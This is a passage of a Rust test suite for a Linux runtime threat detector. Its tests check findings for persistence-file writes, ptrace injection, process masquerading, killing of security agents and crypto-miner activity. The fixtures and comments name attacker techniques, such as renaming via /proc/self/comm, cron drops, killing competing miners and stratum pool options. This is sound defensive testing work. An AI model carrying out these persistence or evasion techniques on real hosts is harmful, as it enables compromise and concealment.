            f.context.file_operation.as_deref()
        ),
        (Some("/etc/cron.d/evil"), Some("openWrite"))
    );
    assert_eq!(f.context.additional["sensitivePattern"], "/etc/cron.d/");
    assert_eq!(
        d.process(
            &activity("ptrace", |a| a.request = Some("PTRACE_TRACEME".into())),
            &NoLookup
        )[0]
        .finding
        .severity_label,
        SeverityLabel::Low
    );
}

#[test]
fn repeats_aggregate_and_other_files_are_other_findings() {
    let mut d = detector();
    let e = file_event("openWrite", "/etc/cron.d/evil", |_| {});
    let first = d.process(&e, &NoLookup);
    let again = d.process(&e, &NoLookup);
    assert!(first[0].new && !again[0].new);
    assert_eq!(again[0].finding.count, 2);
    let other = d.process(
        &file_event("openWrite", "/etc/cron.d/other", |_| {}),
        &NoLookup,
    );
    assert!(other[0].new);
}

#[test]
fn traceme_under_a_debugger_is_ordinary() {
    let mut d = detector();
    // strace exec'd (the detector remembers it), then its child asks to be traced.
    let strace = exec_event("/usr/bin/strace", |e| e.process = proc_ref(100, "strace"));
    assert!(d.process(&strace, &NoLookup).is_empty());
    let traceme = activity("ptrace", |a| {
        a.request = Some("PTRACE_TRACEME".into());
        a.process.ppid = 100;
    });
    assert!(types(&mut d, &traceme).is_empty());
    // strace seizing the child it forked: a debugging session.
    let fork = Event::Fork(crate::event::ForkInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: proc_ref(100, "strace"),
        child_pid: 101,
    });
    assert!(d.process(&fork, &NoLookup).is_empty());
    let seize = |target: u32| {
        activity("ptrace", move |a| {
            a.process = proc_ref(100, "strace");
            a.request = Some("PTRACE_SEIZE".into());
            a.target_pid = Some(target);
        })
    };
    assert!(types(&mut d, &seize(101)).is_empty());
    // strace -p on a process it did not start: injection-capable, reported.
    assert_eq!(
        types(&mut d, &seize(555)),
        ["DefenseEvasion:Runtime/ProcessInjection.Ptrace"]
    );
    // The same for process_vm_readv: its own child's memory is debugging, another's a dump.
    let readv = |target: u32| {
        activity("processVmReadv", move |a| {
            a.process = proc_ref(100, "strace");
            a.target_pid = Some(target);
            a.ret = 8;
        })
    };
    assert!(types(&mut d, &readv(101)).is_empty());
    assert_eq!(
        types(&mut d, &readv(555)),
        ["CredentialAccess:Runtime/MemoryDumpCreated"]
    );
}

#[test]
fn a_security_agent_stopped_by_another_process_and_its_supervisors_are_told_apart() {
    const KILLED: &str = "behaviour-security-agent-killed";
    // The agents (each started by its parent), an attacker's shell, systemd, a second copy of
    // the agent's program, and a shell under dpkg.
    let execs = [
        exec_by(
            7001,
            "/usr/bin/falco",
            &["falco"],
            &[(1, "/usr/lib/systemd/systemd")],
        ),
        exec_by(
            7008,
            "/usr/bin/bash",
            &["bash", "start.sh"],
            &[(1, "/usr/sbin/cron")],
        ),
        exec_by(
            7007,
            "/usr/bin/osqueryd",
            &["osqueryd"],
            &[(7008, "/usr/bin/bash")],
        ),
        exec_by(7002, "/usr/bin/bash", &["bash"], &[(300, "/usr/sbin/sshd")]),
        exec_by(
            7003,
            "/usr/lib/systemd/systemd",
            &["/lib/systemd/systemd", "--user"],
            &[(1, "/usr/lib/systemd/systemd")],
        ),
        exec_by(
            7004,
            "/usr/bin/falco",
            &["falco", "--stop"],
            &[(7002, "/usr/bin/bash")],
        ),
        exec_by(
            7005,
            "/usr/bin/bash",
            &["/bin/sh", "/var/lib/dpkg/info/falco.prerm"],
            &[(7006, "/usr/bin/dpkg")],
        ),
    ];
    let signal = |sender: u32, target: u32, name: &str, code: i32| {
        activity("signalGuarded", move |a| {
            a.process = proc_ref(sender, "x");
            a.target_pid = Some(target);
            a.aimed_at_agent = Some(Box::new(crate::event::AimedAtAgent {
                signal: Some(name.to_owned()),
                signal_code: Some(code),
                ..Default::default()
            }));
        })
    };
    let killed = |last: Event| {
        let mut events = execs.to_vec();
        events.push(last);
        run_all(&events)
            .into_iter()
            .filter(|(_, rule, _)| rule == KILLED)
            .collect::<Vec<_>>()
    };
    // An attacker's shell: kill -9 by pid (the builtin), and a SIGSTOP.
    for (name, code) in [("SIGKILL", 0), ("SIGSTOP", -6)] {
        assert_eq!(
            killed(signal(7002, 7001, name, code)),
            [(
                "DefenseEvasion:Runtime/SuspiciousCommand".to_owned(),
                KILLED.to_owned(),
                SeverityLabel::High
            )],
            "{name}"
        );
    }
    // The kernel's own signal, init, a supervisor from a system directory, the agent's own
    // program, a package manager's script, and the agent's parent: none.
    for (sender, target, code, why) in [
        (7002, 7001, 0x80, "raised by the kernel"),
        (1, 7001, 0, "the host's init"),
        (7003, 7001, 0, "systemd"),
        (7004, 7001, 0, "the agent's own program"),
        (7005, 7001, 0, "under dpkg"),
        (7008, 7007, 0, "the agent's parent"),
        (7001, 7001, 0, "itself"),
    ] {
        assert!(
            killed(signal(sender, target, "SIGTERM", code)).is_empty(),
            "{why}"
        );
    }
    // A shell that is not its parent stopping the second agent: reported.
    assert_eq!(killed(signal(7002, 7007, "SIGTERM", 0)).len(), 1);
}

#[test]
fn a_thread_renamed_to_a_daemons_name_by_another_program_is_masquerading() {
    let programs = [
        (60, "/usr/bin/python3.11"),
        (61, "/usr/sbin/sshd"),
        (62, "/usr/lib/openssh/sshd-session"),
        (63, "/lib/systemd/systemd-journald"),
        (64, "/tmp/.x/updater"),
    ];
    let renamed = |pid: u32, old: &str, new: &str| {
        let mut d = detector();
        for (p, exe) in programs {
            d.process(&exec_by(p, exe, &[exe], &[(1, "/sbin/init")]), &NoLookup);
        }
        let out = d.process(
            &activity("rename", |a| {
                a.process = proc_ref(pid, old);
                a.source = Some(old.into());
                a.name = Some(new.into());
            }),
            &NoLookup,
        );
        out.into_iter()
            .filter(|o| {
                o.finding
                    .context
                    .additional
                    .get("ruleId")
                    .map(String::as_str)
                    == Some("behaviour-masquerading")
            })
            .map(|o| o.finding)
            .collect::<Vec<_>>()
    };
    // A python program and a dropped binary taking a daemon's name: Medium.
    for (pid, old, new) in [
        (60, "python3", "sshd"),
        (64, "updater", "crond"),
        (60, "python3", "systemd-journal"),
    ] {
        let found = renamed(pid, old, new);
        assert_eq!(found.len(), 1, "{pid} to {new}");
        let f = &found[0];
        assert_eq!(f.severity_label, SeverityLabel::Medium, "{new}");
        assert_eq!(
            f.context.additional.get("masquerade").map(String::as_str),
            Some("a thread renamed to a system daemon's name (prctl(PR_SET_NAME))")
        );
        assert!(
            f.description.contains("a system daemon's name"),
            "{}",
            f.description
        );
    }
    // The daemon naming its own threads (journald's name as the kernel holds it), sshd's
    // session program, a name left as it was, an ordinary thread name, and a process whose
    // executable is unknown: nothing.
    for (pid, old, new) in [
        (61, "sshd", "sshd"),
        (62, "sshd-session", "sshd"),
        (63, "systemd-journal", "systemd-journal"),
        (63, "x", "systemd-journal"),
        (60, "sshd", "sshd"),
        (60, "python3", "worker-1"),
        (99, "python3", "sshd"),
    ] {
        assert!(renamed(pid, old, new).is_empty(), "{pid}: {old} to {new}");
    }
    // Another thread of the process renamed `cron` (a JVM names its native threads after the
    // Java ones): not the name `ps` lists the process by.
    let mut d = detector();
    d.process(
        &exec_by(
            60,
            "/usr/bin/python3.11",
            &["python3"],
            &[(1, "/sbin/init")],
        ),
        &NoLookup,
    );
    let out = d.process(
        &activity("rename", |a| {
            a.process = proc_ref(60, "python3");
            a.process.tid = 61;
            a.source = Some("Thread-1".into());
            a.name = Some("cron".into());
        }),
        &NoLookup,
    );
    assert!(out.is_empty(), "{out:?}");
    // A kernel thread's name stays High.
    let found = renamed(60, "python3", "kworker/0:1");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity_label, SeverityLabel::High);
}

#[test]
fn an_executable_named_like_a_daemon_in_a_temporary_directory_is_masquerading() {
    let masquerade = |exe: &str| {
        run_all(&[exec_by(70, exe, &[exe], &[(1, "/sbin/init")])])
            .into_iter()
            .filter(|(_, rule, _)| rule == "behaviour-masquerading")
            .collect::<Vec<_>>()
    };
    for exe in [
        "/tmp/.x/sshd",
        "/dev/shm/crond",
        "/var/tmp/systemd-journald",
    ] {
        assert_eq!(
            masquerade(exe),
            [(
                "DefenseEvasion:Runtime/SuspiciousCommand".to_owned(),
                "behaviour-masquerading".to_owned(),
                SeverityLabel::Medium
            )],
            "{exe}"
        );
    }
    for exe in [
        "/usr/sbin/sshd",
        "/usr/sbin/cron",
        "/lib/systemd/systemd-journald",
        "/opt/app/bin/init",
        "/tmp/build/sshd-test",
    ] {
        assert!(masquerade(exe).is_empty(), "{exe}");
    }
}

#[test]
fn a_rename_names_the_thread_renamed_and_how() {
    let mut d = detector();
    // The main thread of pid 40 wrote another thread's comm file.
    let out = d.process(
        &activity("rename", |a| {
            a.process = proc_ref(40, "python3");
            a.source = Some("python3".into());
            a.name = Some("[ksoftirqd/1]".into());
            a.target_pid = Some(41);
            a.request = Some("write to a procfs comm file".into());
        }),
        &NoLookup,
    );
    assert_eq!(out.len(), 1);
    let add = &out[0].finding.context.additional;
    assert_eq!(add.get("threadId").map(String::as_str), Some("41"));
    assert_eq!(
        add.get("masquerade").map(String::as_str),
        Some("a thread renamed to a kernel thread's name (write to a procfs comm file)")
    );
    assert!(
        out[0].finding.description.contains("thread 41"),
        "{}",
        out[0].finding.description
    );
    // prctl's record names no other thread: the caller is the one renamed.
    let out = d.process(
        &activity("rename", |a| {
            a.process = proc_ref(50, "python3");
            a.source = Some("python3".into());
            a.name = Some("kswapd0".into());
        }),
        &NoLookup,
    );
    let add = &out[0].finding.context.additional;
    assert_eq!(add.get("threadId").map(String::as_str), Some("50"));
    assert_eq!(
        add.get("masquerade").map(String::as_str),
        Some("a thread renamed to a kernel thread's name (prctl(PR_SET_NAME))")
    );
}

#[test]
fn a_miner_stopped_by_another_process_is_a_competitor_killed() {
    const COMPETITOR: &str = "behaviour-miner-competitor-kill";
    // A miner started by cron's shell, a dropper's shell, systemd, and a second xmrig.
    let execs = [
        exec_by(
            7108,
            "/usr/bin/bash",
            &["bash", "start.sh"],
            &[(1, "/usr/sbin/cron")],
        ),
        exec_by(
            7101,
            "/tmp/.x/xmrig",
            &["xmrig"],
            &[(7108, "/usr/bin/bash")],
        ),
        exec_by(7102, "/usr/bin/bash", &["bash"], &[(300, "/usr/sbin/sshd")]),
        exec_by(
            7103,
            "/usr/lib/systemd/systemd",
            &["/lib/systemd/systemd", "--user"],
            &[(1, "/usr/lib/systemd/systemd")],
        ),
        exec_by(
            7104,
            "/tmp/.x/xmrig",
            &["xmrig"],
            &[(7102, "/usr/bin/bash")],
        ),
    ];
    let signal = |op: &'static str, sender: u32, target: u32, code: i32| {
        activity(op, move |a| {
            a.process = proc_ref(sender, "x");
            a.target_pid = Some(target);
            a.aimed_at_agent = Some(Box::new(crate::event::AimedAtAgent {
                signal: Some("SIGKILL".to_owned()),
                signal_code: Some(code),
                ..Default::default()
            }));
        })
    };
    let raised = |last: Event| {
        let mut events = execs.to_vec();
        events.push(last);
        run_all(&events)
            .into_iter()
            .filter(|(_, rule, _)| rule == COMPETITOR || rule == "behaviour-security-agent-killed")
            .collect::<Vec<_>>()
    };
    // `kill -9 $(pgrep xmrig)` from the dropper's shell: the kill builtin, no pipe to xargs.
    assert_eq!(
        raised(signal("signalMiner", 7102, 7101, 0)),
        [(
            "Execution:Runtime/SuspiciousCommand".to_owned(),
            COMPETITOR.to_owned(),
            SeverityLabel::Medium
        )]
    );
    // Routine stops: the kernel's, systemd's, the miner's parent, its own program, itself.
    for (sender, code, why) in [
        (7102, 0x80, "raised by the kernel"),
        (7103, 0, "systemd"),
        (7108, 0, "the miner's parent"),
        (7104, 0, "another copy of the same program"),
        (7101, 0, "itself"),
    ] {
        assert!(
            raised(signal("signalMiner", sender, 7101, code)).is_empty(),
            "{why}"
        );
    }
    // The description says why the target is a miner: its name, or (guarded after a miner
    // finding, `miner_process`) what it did, whatever its executable is called.
    let mut d = detector();
    let python = exec_by(
        7105,
        "/usr/bin/python3.11",
        &["python3", "pool.py"],
        &[(7108, "/usr/bin/bash")],
    );
    for e in execs.iter().chain([&python]) {
        d.process(e, &NoLookup);
    }
    for (target, by, why) in [
        (7101, "name", "a miner's name"),
        (7105, "behaviour", "found to be a miner by what it did"),
    ] {
        let out = d.process(&signal("signalMiner", 7102, target, 0), &NoLookup);
        let f = &out
            .iter()
            .find(|o| {
                o.finding
                    .context
                    .additional
                    .get("ruleId")
                    .map(String::as_str)
                    == Some(COMPETITOR)
            })
            .unwrap_or_else(|| panic!("no finding for {target}: {out:?}"))
            .finding;
        assert_eq!(
            f.context.additional.get("minerBy").map(String::as_str),
            Some(by)
        );
        assert!(f.description.contains(why), "{}", f.description);
    }
}

#[test]
fn the_process_of_a_miner_finding_is_one_to_guard() {
    let mut d = detector();
    let e = exec_by(
        7201,
        "/tmp/.x/sysupdate",
        &[
            "sysupdate",
            "-o",
            "stratum+tcp://pool.example:3333",
            "--donate-level=1",
        ],
        &[(1, "/usr/sbin/cron")],
    );
    let out = d.process(&e, &NoLookup);
    let miner = out
        .iter()
        .find(|o| o.finding.finding_type == "Impact:Runtime/CryptoMinerExecuted")
        .expect("a miner's options raise CryptoMinerExecuted");
    let (pid, uuid) = super::miner_process(&miner.finding).expect("its process");
    assert_eq!(pid, 7201);
    assert_eq!(uuid, miner.finding.process.as_ref().expect("process").uuid);
    // Other types, a name queried, and a finding without a process name no miner.
    for o in out
        .iter()
        .filter(|o| o.finding.finding_type != "Impact:Runtime/CryptoMinerExecuted")
    {
        assert_eq!(
            super::miner_process(&o.finding),
            None,
            "{}",
            o.finding.finding_type
        );
    }
    let mut dns = miner.finding.clone();
    dns.finding_type = "CryptoCurrency:Runtime/BitcoinTool.B!DNS".into();
    assert_eq!(super::miner_process(&dns), None);
    let mut bitcoin = miner.finding.clone();
    bitcoin.finding_type = "CryptoCurrency:Runtime/BitcoinTool.B".into();
    assert_eq!(super::miner_process(&bitcoin).map(|(p, _)| p), Some(7201));
    bitcoin.process = None;
    assert_eq!(super::miner_process(&bitcoin), None);
}

#[test]
fn behaviour_sections_merge_and_bad_entries_are_named() {
    let set = RuleSet::from_text(
        "mine.yaml",
        "behaviour:\n  debuggers: [mydbg]\n  sensitiveFiles:\n    exempt:\n      - pattern: /etc/passwd\n        writers: [myadm]\n",
    )
    .unwrap();
    assert_eq!(set.behaviour().debuggers, ["mydbg"]);
    let cases = [
        (
            "behaviour:\n  daemonNames: [sshd, systemd-journald]\n",
            "behaviour.daemonNames[1]",
        ),
        (
            "behaviour:\n  runtimeSockets: [run/x.sock]\n",
            "behaviour.runtimeSockets[0]",
        ),
        (
            "behaviour:\n  debuggers: [bin/gdb]\n",
            "behaviour.debuggers[0]",
        ),
        (
            "behaviour:\n  sensitiveFiles:\n    exempt:\n      - pattern: /etc/passwd\n        writers: [/usr/sbin/]\n",
            "behaviour.sensitiveFiles.exempt[0].writers[0]",
        ),
        (
            "behaviour:\n  sensitiveFiles:\n    exempt:\n      - pattern: /etc/passwd\n",
            "behaviour.sensitiveFiles.exempt[0]",
        ),
    ];
    for (text, field) in cases {
        let err = RuleSet::from_text("mine.yaml", text)
            .unwrap_err()
            .to_string();
        assert!(
            err.starts_with("mine.yaml: ") && err.contains(field),
            "{err}"
        );
    }
    let err = RuleSet::from_text("mine.yaml", "behaviour:\n  debugers: [x]\n")
        .unwrap_err()
        .to_string();
    assert!(err.contains("debugers") && err.contains("line 2"), "{err}");
    let builtin = RuleSet::builtin().unwrap();
    assert!(
        builtin
            .behaviour()
            .runtime_sockets
            .contains(&"/run/docker.sock".to_owned())
    );
    assert!(
        builtin
            .behaviour()
            .host_build_writers
            .contains(&"ld".to_owned())
    );
}

#[test]
fn new_files_on_the_host_are_off_by_default_and_low_when_asked() {
    let dropper = exec_event("/home/dev/dropper", |e| e.written_by = Some(writer("cp")));
    let library = activity("libraryLoad", |a| {
        a.inode = Some(55);
        a.written_by = Some(writer("pip"));
    });
    assert!(types(&mut detector(), &dropper).is_empty());
    assert!(types(&mut detector(), &library).is_empty());
    // A rules directory that turns them on for this host, after the built-in files.
    let dir = std::env::temp_dir().join(format!("vigil-host-new-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("host.yaml"), "behaviour:\n  hostNewFiles: low\n").unwrap();
    let rules = RuleSet::load(true, Some(&dir)).unwrap();
    let _ = std::fs::remove_dir_all(&dir);
    let mut d = Detector::new(
        Arc::new(SharedIntel::new(ThreatIntel::empty())),
        None,
        rules,
        Vec::new(),
        DetectorConfig::default(),
        Clock::with_offset(0),
    );
    for (event, t) in [
        (&dropper, "Execution:Runtime/NewBinaryExecuted"),
        (&library, "Execution:Runtime/NewLibraryLoaded"),
    ] {
        let out = d.process(event, &NoLookup);
        assert_eq!(out.len(), 1, "{t}");
        assert_eq!(out[0].finding.finding_type, t);
        assert_eq!(out[0].finding.severity_label, SeverityLabel::Low);
    }
    // Build output stays exempt on the host, whatever the setting.
    let built = exec_event("/home/dev/a.out", |e| e.written_by = Some(writer("ld")));
    assert!(d.process(&built, &Known).is_empty());
    let err = RuleSet::from_text("host.yaml", "behaviour:\n  hostNewFiles: sometimes\n")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("host.yaml") && err.contains("hostNewFiles"),
        "{err}"
    );
}

/// Findings of a sequence of events, with their rule ids (`additional.ruleId`) and labels.
fn run_all(events: &[Event]) -> Vec<(String, String, SeverityLabel)> {
    let mut d = detector();
    events
        .iter()
        .flat_map(|e| d.process(e, &NoLookup))
        .map(|o| {
            let f = o.finding;
            let rule = f
                .context
                .additional
                .get("ruleId")
                .cloned()
                .unwrap_or_default();
            (f.finding_type, rule, f.severity_label)
        })
        .collect()
}

fn ancestor(pid: u32, exe: &str) -> crate::event::Ancestor {
    crate::event::Ancestor {
        pid,
        ppid: 1,
        comm: super::basename(exe).chars().take(15).collect(),
        exe: Some(PathBuf::from(exe)),
        uuid: format!("uuid-{pid}"),
    }
}

fn exec_by(pid: u32, exe: &str, argv: &[&str], lineage: &[(u32, &str)]) -> Event {
    exec_event(exe, |e| {
        e.process = proc_ref(pid, super::basename(argv[0]));
        e.filename = argv[0].into();
        e.argv = argv.iter().map(|a| (*a).to_owned()).collect();
        e.cwd = Some(PathBuf::from("/root"));
        e.lineage = lineage.iter().map(|(p, x)| ancestor(*p, x)).collect();
    })
}

fn write_by(pid: u32, comm: &str, path: &str) -> Event {
    file_event("openWrite", path, |f| f.process = proc_ref(pid, comm))
}

#[test]
fn persistence_writes_are_judged_by_executable_and_lineage_not_comm() {
    let persisted = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(t, _, _)| t == "Persistence:Runtime/SuspiciousCommand")
            .map(|(_, rule, _)| rule)
            .collect::<Vec<_>>()
    };
    let dpkg = exec_by(
        300,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    // dpkg itself, a child it forked (not exec'd), and a maintainer script it ran.
    let fork = Event::Fork(crate::event::ForkInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: proc_ref(300, "dpkg"),
        child_pid: 301,
    });
    let postinst = exec_by(
        302,
        "/usr/bin/dash",
        &["/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"],
        &[(300, "/usr/bin/dpkg"), (1, "/usr/lib/systemd/systemd")],
    );
    assert!(
        persisted(&[
            dpkg.clone(),
            write_by(300, "dpkg", "/lib/systemd/system/x.service")
        ])
        .is_empty()
    );
    assert!(persisted(&[dpkg.clone(), fork, write_by(301, "dpkg", "/etc/cron.d/x")]).is_empty());
    assert!(
        persisted(&[
            dpkg,
            postinst,
            write_by(302, "x.postinst", "/etc/systemd/system/x.service")
        ])
        .is_empty()
    );

    // A program that named itself dpkg (`printf dpkg > /proc/self/comm`): its executable says
    // python3.
    let python = exec_by(
        310,
        "/usr/bin/python3.11",
        &["python3", "/root/x.py"],
        &[(200, "/usr/bin/bash")],
    );
    assert_eq!(
        persisted(&[python, write_by(310, "dpkg", "/etc/cron.d/x")]),
        ["behaviour-persistence-cron"]
    );
    // A shell appending to root's crontab file, an init script and a user unit.
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for (path, rule) in [
        (
            "/var/spool/cron/crontabs/root",
            "behaviour-persistence-cron",
        ),
        ("/etc/init.d/evil", "behaviour-persistence-init"),
        ("/etc/rc.common", "behaviour-persistence-init"),
        ("/etc/rc.d/init.d/evil", "behaviour-persistence-init"),
        // The runlevel directories' links and anacron's table (Tracee's rcd and scheduled task
        // signatures).
        ("/etc/rc2.d/S99evil", "behaviour-persistence-init"),
        ("/etc/rcS.d/S01evil", "behaviour-persistence-init"),
        ("/etc/rc.d/rc3.d/S99evil", "behaviour-persistence-init"),
        ("/etc/anacrontab", "behaviour-persistence-cron"),
        (
            "/home/ann/.config/systemd/user/x.service",
            "behaviour-persistence-systemd",
        ),
        // Shell start-up files: system-wide, and by name in any home.
        ("/etc/profile.d/x.sh", "behaviour-persistence-shell-startup"),
        ("/etc/profile", "behaviour-persistence-shell-startup"),
        ("/etc/bash.bashrc", "behaviour-persistence-shell-startup"),
        ("/root/.bashrc", "behaviour-persistence-shell-startup"),
        (
            "/home/ann/.bash_profile",
            "behaviour-persistence-shell-startup",
        ),
        ("/home/ann/.profile", "behaviour-persistence-shell-startup"),
    ] {
        assert_eq!(
            persisted(&[sh.clone(), write_by(320, "sh", path)]),
            [rule],
            "{path}"
        );
    }
    // The editor `systemctl edit` runs (a child of systemctl) writes the drop-in: exempt. A
    // service under init is not exempt for being under init.
    let editor = exec_by(
        340,
        "/usr/bin/vim.basic",
        &["vim", "/etc/systemd/system/x.service.d/.#override.conf"],
        &[(339, "/usr/bin/systemctl"), (200, "/usr/bin/bash")],
    );
    assert!(
        persisted(&[
            editor,
            write_by(340, "vim", "/etc/systemd/system/x.service.d/override.conf")
        ])
        .is_empty()
    );
    // An editor changing someone's own start-up file, useradd copying /etc/skel: their job.
    // A name that only ends like one is not one.
    let vim = exec_by(
        341,
        "/usr/bin/vim.basic",
        &["vim", "/home/ann/.bashrc"],
        &[(200, "/usr/bin/bash")],
    );
    assert!(persisted(&[vim, write_by(341, "vim", "/home/ann/.bashrc")]).is_empty());
    // update-rc.d linking an init script into the runlevel directories: its job.
    // (A perl script: the kernel exec'd the script's path and put perl first in argv.)
    let update_rc = exec_event("/usr/bin/perl", |e| {
        e.process = proc_ref(343, "update-rc.d");
        e.filename = "/usr/sbin/update-rc.d".into();
        e.argv = ["/usr/bin/perl", "/usr/sbin/update-rc.d", "x", "defaults"]
            .iter()
            .map(|a| (*a).to_owned())
            .collect();
        e.lineage = vec![ancestor(200, "/usr/bin/bash")].into();
    });
    assert!(persisted(&[update_rc, write_by(343, "update-rc.d", "/etc/rc2.d/S01x")]).is_empty());
    let useradd = exec_by(
        342,
        "/usr/sbin/useradd",
        &["useradd", "-m", "bob"],
        &[(200, "/usr/bin/bash")],
    );
    assert!(persisted(&[useradd, write_by(342, "useradd", "/home/bob/.profile")]).is_empty());
    assert!(persisted(&[sh.clone(), write_by(320, "sh", "/home/ann/notes.bashrc")]).is_empty());
    let service = exec_by(
        350,
        "/usr/bin/python3.11",
        &["python3", "/srv/app.py"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    assert_eq!(
        persisted(&[
            service,
            write_by(350, "python3", "/run/systemd/system/x.service")
        ]),
        ["behaviour-persistence-systemd"]
    );
    // crontab writing its spool, systemctl linking a unit: their job.
    let crontab = exec_by(
        330,
        "/usr/bin/crontab",
        &["crontab", "-e"],
        &[(200, "/usr/bin/bash")],
    );
    assert!(
        persisted(&[
            crontab,
            write_by(330, "crontab", "/var/spool/cron/crontabs/root")
        ])
        .is_empty()
    );
    // systemctl linking units: enabling an installed unit, masking one, a user's unit: its
    // job. Linking a file from anywhere else installs that file as a unit (`systemctl link
    // /root/x.service`, `systemctl enable /opt/x/x.service`), relative targets included.
    let systemctl = exec_by(
        335,
        "/usr/bin/systemctl",
        &["systemctl", "link", "/root/x.service"],
        &[(200, "/usr/bin/bash")],
    );
    let link = |path: &str, target: &str| {
        let target = target.to_owned();
        file_event("symlink", path, move |f| {
            f.process = proc_ref(335, "systemctl");
            f.path2 = Some(target);
            f.ret = 0;
        })
    };
    for (path, target) in [
        (
            "/etc/systemd/system/multi-user.target.wants/ssh.service",
            "/lib/systemd/system/ssh.service",
        ),
        (
            "/etc/systemd/system/multi-user.target.wants/x.service",
            "/etc/systemd/system/x.service",
        ),
        ("/etc/systemd/system/x.service", "/dev/null"),
        (
            "/etc/systemd/system/timers.target.wants/x.timer",
            "../x.timer",
        ),
        (
            "/home/ann/.config/systemd/user/default.target.wants/x.service",
            "/home/ann/.config/systemd/user/x.service",
        ),
    ] {
        assert!(
            persisted(&[systemctl.clone(), link(path, target)]).is_empty(),
            "{path} -> {target}"
        );
    }
    for (path, target) in [
        ("/etc/systemd/system/x.service", "/root/x.service"),
        ("/etc/systemd/system/x.service", "/opt/x/x.service"),
        ("/etc/systemd/system/x.service", "../../../tmp/x.service"),
        (
            "/etc/systemd/system/multi-user.target.wants/x.service",
            "/dev/shm/x.service",
        ),
        // A look-alike of a user's unit directory elsewhere, and a user's file linked into the
        // system's directory.
        (
            "/home/ann/.config/systemd/user/x.service",
            "/tmp/.config/systemd/user/x.service",
        ),
        (
            "/etc/systemd/system/x.service",
            "/home/ann/.config/systemd/user/x.service",
        ),
    ] {
        let found = run_all(&[systemctl.clone(), link(path, target)]);
        assert_eq!(
            found
                .iter()
                .map(|(t, rule, _)| (t.as_str(), rule.as_str()))
                .collect::<Vec<_>>(),
            [(
                "Persistence:Runtime/SuspiciousCommand",
                "behaviour-persistence-systemd"
            )],
            "{path} -> {target}"
        );
    }
    // A rename into place counts for the destination; a move out of a location does not.
    let mv = |from: &str, to: &str| {
        let (from, to) = (from.to_owned(), to.to_owned());
        file_event("rename", &from, move |f| {
            f.process = proc_ref(320, "mv");
            f.path2 = Some(to.clone());
            f.resolved_path2 = Some(PathBuf::from(to));
            f.ret = 0;
        })
    };
    assert_eq!(
        persisted(&[sh.clone(), mv("/tmp/job", "/etc/cron.d/job")]),
        ["behaviour-persistence-cron"]
    );
    assert!(persisted(&[sh, mv("/etc/cron.d/job", "/root/job")]).is_empty());
}

#[test]
fn crontab_installs_from_files_and_standard_input() {
    let crontab = |argv: &[&str]| {
        run_all(&[exec_by(
            400,
            "/usr/bin/crontab",
            argv,
            &[(200, "/usr/bin/bash")],
        )])
        .into_iter()
        .map(|(t, rule, _)| (t, rule))
        .collect::<Vec<_>>()
    };
    let installed = vec![(
        "Persistence:Runtime/SuspiciousCommand".to_owned(),
        "behaviour-persistence-crontab-install".to_owned(),
    )];
    assert_eq!(crontab(&["crontab", "/root/new.cron"]), installed);
    assert_eq!(crontab(&["crontab", "-"]), installed);
    assert_eq!(
        crontab(&["crontab", "-u", "www-data", "/root/x"]),
        installed
    );
    assert!(crontab(&["crontab", "-l"]).is_empty());
    assert!(crontab(&["crontab", "-e"]).is_empty());
    assert!(crontab(&["crontab", "-u", "root", "-r"]).is_empty());
}

/// `(ruleId, persistenceKind)` of the persistence findings of a sequence of events.
fn persistence_kinds(events: &[Event]) -> Vec<(String, String)> {
    let mut d = detector();
    events
        .iter()
        .flat_map(|e| d.process(e, &NoLookup))
        .map(|o| o.finding)
        .filter(|f| f.finding_type == "Persistence:Runtime/SuspiciousCommand")
        .map(|f| {
            let get = |k: &str| f.context.additional.get(k).cloned().unwrap_or_default();
            (get("ruleId"), get("persistenceKind"))
        })
        .collect()
}

fn kind_of(rule: &str, kind: &str) -> Vec<(String, String)> {
    vec![(rule.to_owned(), kind.to_owned())]
}

#[test]
fn autostart_udev_motd_module_environment_and_at_places_are_persistence() {
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for (path, kind) in [
        ("/usr/local/lib/systemd/system/x.service", "systemd"),
        ("/etc/systemd/system-generators/x", "systemd"),
        ("/usr/local/lib/systemd/system-generators/x", "systemd"),
        ("/lib/systemd/system-generators/x", "systemd"),
        ("/usr/lib/systemd/system-generators/x", "systemd"),
        ("/etc/xdg/autostart/x.desktop", "autostart"),
        ("/root/.config/autostart/x.desktop", "autostart"),
        ("/home/ann/.config/autostart/x.desktop", "autostart"),
        ("/etc/udev/rules.d/99-x.rules", "udev"),
        ("/lib/udev/rules.d/99-x.rules", "udev"),
        ("/usr/lib/udev/rules.d/99-x.rules", "udev"),
        ("/etc/update-motd.d/99-x", "motd"),
        ("/etc/modules-load.d/x.conf", "modules"),
        ("/etc/modules", "modules"),
        ("/etc/environment", "environment"),
        ("/var/spool/cron/atjobs/a0001401c2e1f0", "at"),
        ("/var/spool/at/a0001401c2e1f0", "at"),
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            kind_of(&format!("behaviour-persistence-{kind}"), kind),
            "{path}"
        );
    }
    // zsh's system files are shell start-up files.
    for path in [
        "/etc/zsh/zshrc",
        "/etc/zsh/zshenv",
        "/etc/zshenv",
        "/etc/zprofile",
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            kind_of("behaviour-persistence-shell-startup", "shell"),
            "{path}"
        );
    }
    // Names that only start like one, and other directories, are not.
    for path in [
        "/etc/modules.bak",
        "/etc/environment.d-notes",
        "/home/ann/.config/autostart-notes/x",
        "/etc/udev/hwdb.d/x.hwdb",
        "/etc/motd",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // Moved into place, made executable in place.
    let mv = file_event("rename", "/root/x.desktop", |f| {
        f.process = proc_ref(320, "mv");
        f.path2 = Some("/etc/xdg/autostart/x.desktop".into());
